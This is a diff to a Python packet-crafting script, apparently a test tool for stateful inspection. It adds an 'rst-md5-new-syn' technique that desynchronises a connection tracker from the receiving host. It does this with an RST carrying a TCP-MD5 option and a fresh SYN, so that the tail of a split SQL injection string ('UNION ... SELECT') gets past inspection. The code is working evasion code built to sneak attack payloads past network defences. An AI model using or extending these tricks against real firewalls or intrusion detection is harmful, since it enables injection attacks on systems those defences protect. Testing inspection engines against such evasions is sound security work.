@@ -46,6 +46,10 @@ TECHNIQUE is one of:
   fin-md5-reopen, rst-md5-reopen raw: "... UNION", a FIN (RST) with a
              TCP-MD5 option at the end, a bare ACK 5 bytes past it, decoys
              from there past the window, "   SELECT ..." at the true end
+  rst-md5-new-syn raw: "... UNION", an RST with TCP-MD5 at the end (conntrack
+             takes it, the receiver does not), a SYN whose stream starts at
+             the old one's next byte (conntrack makes a new connection),
+             its ACK, then "   SELECT ..." there
   overlap    raw: "... UNI", then a segment of old bytes that differ and new
              ones ("abcON   SELECT ...")
   midstream  raw: "... UNION", then, after the suite deleted the connection's
@@ -345,6 +349,18 @@ def end_tricks(technique, src, dst, port):
     end = seq + len(HEAD)
     c.send(end, (ACK | FIN) if technique == "fin-md5-reopen" else RST, options=MD5_OPTION)
     c.receive(0.2)
+    if technique == "rst-md5-new-syn":
+        # conntrack took the reset and starts a new connection at a SYN
+        # whose stream begins at the old one's next byte; the receiver
+        # still holds the old connection (it answers with a challenge ACK)
+        c.send(end - 1, SYN)
+        c.receive(0.3)
+        c.send(end, ACK)
+        c.receive(0.2)
+        c.send(end, ACK | PSH, TAIL)
+        c.receive(1.0)
+        print(c.acked())
+        return 0
     c.send(end + 5, ACK)
     fill(c, end + 5)
     c.send(end, ACK | PSH, TAIL)
@@ -359,6 +375,7 @@ TRICKS = {
     "ack-old-early": handshake_tricks, "start-ahead": handshake_tricks,
     "isn-change": handshake_tricks, "isn-change-md5": handshake_tricks,
     "fin-md5-reopen": end_tricks, "rst-md5-reopen": end_tricks, "overlap": end_tricks,
+    "rst-md5-new-syn": end_tricks,
 }
 
 
